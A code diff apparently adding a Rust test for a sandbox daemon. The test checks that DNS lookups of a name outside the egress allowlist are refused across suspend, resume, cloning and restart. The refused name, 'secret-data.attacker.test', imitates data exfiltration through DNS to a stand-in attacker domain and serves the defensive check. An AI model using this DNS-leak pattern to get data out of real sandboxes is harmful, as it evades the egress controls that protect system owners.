@@ -31,6 +31,43 @@ async fn neither_the_host_nor_another_sandbox_is_reached() {
     place.end(&[]).await;
 }
 
+/// Asks the name server of a sandbox for a name and prints the code of the answer.
+const ASK: &str = "import socket,sys\n\
+    name = b''.join(bytes([len(part)]) + part for part in sys.argv[1].encode().split(b'.'))\n\
+    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); asking.settimeout(60)\n\
+    asking.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\0\\1\\0\\1', (sys.argv[2], 53))\n\
+    print('code', asking.recv(512)[3] & 15)\n";
+
+#[tokio::test]
+async fn a_name_that_is_not_permitted_is_refused_in_every_run_of_a_sandbox_and_its_children() {
+    let mut place = Place::new();
+    let asked =
+        json!({ "name": "web", "image": "base", "egress": { "allow": ["198.51.100.0/24", "*.permitted.test"] } });
+    let id = place.daemon().create(asked).await.unwrap();
+    let refused = async |daemon: &dorm_testing::Daemon, id: &str| {
+        for server in ["10.0.0.1", "203.0.113.53"] {
+            let argv = ["python3", "-c", ASK, "secret-data.attacker.test", server];
+            assert_eq!(daemon.exec(id, &argv).await.unwrap(), (0, "code 5\n".to_owned()));
+        }
+    };
+    refused(place.daemon(), &id).await;
+    place.daemon().act(&id, "suspend").await.unwrap();
+    place.daemon().act(&id, "evict").await.unwrap();
+    place.daemon().act(&id, "resume").await.unwrap();
+    refused(place.daemon(), &id).await;
+    let clone = place.daemon().post(&format!("/sandboxes/{id}/clone"), json!({ "name": "copy" })).await.unwrap();
+    let clone = clone["sandbox"]["id"].as_str().unwrap().to_owned();
+    refused(place.daemon(), &clone).await;
+    place.daemon_mut().kill().unwrap();
+    place.daemon_mut().start_again().unwrap();
+    for id in [&id, &clone] {
+        refused(place.daemon(), id).await;
+    }
+    let usage = place.daemon().get(&format!("/sandboxes/{id}/usage")).await.unwrap();
+    assert_eq!(usage["network"]["limit_bytes_per_second"], 128 << 20, "{usage}");
+    place.end(&[]).await;
+}
+
 #[tokio::test]
 async fn a_port_nobody_listens_on_is_told_from_a_sandbox_that_is_not_there() {
     let place = Place::new();
